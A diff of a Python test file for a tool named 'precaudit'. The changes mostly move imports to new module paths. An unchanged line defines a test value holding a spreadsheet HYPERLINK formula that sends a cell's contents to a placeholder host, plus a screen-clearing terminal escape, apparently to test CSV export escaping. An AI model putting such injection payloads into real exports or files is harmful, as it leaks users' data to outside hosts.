@@ -19,12 +19,12 @@ from hypothesis import strategies as st
 import precaudit
 from precaudit.cli import run
 from precaudit.errors import UserError
-from precaudit.frames import errors_frame
 from precaudit.judging.gate import gate
-from precaudit.prompts import Prompt
-from precaudit.records import ErrorRecord
 from precaudit.reports import exports
 from precaudit.reports.escaping import csv as cell
+from precaudit.schema.frames import errors_frame
+from precaudit.schema.prompts import Prompt
+from precaudit.schema.records import ErrorRecord
 
 FORMULA = '=HYPERLINK("http://h/"&A1)\x1b[2J'
 
@@ -57,10 +57,10 @@ def export(*arguments):
 def errors_of(folder):
     if (folder / "program.json").is_file():
         from precaudit.judging.programs import errors_of as read
-        from precaudit.runs.programs import open_program_run
+        from precaudit.recording.runs.programs import open_program_run
 
         return read(open_program_run(folder))
-    from precaudit.runs.written import recall
+    from precaudit.recording.runs.written import recall
 
     return recall(folder).errors
 
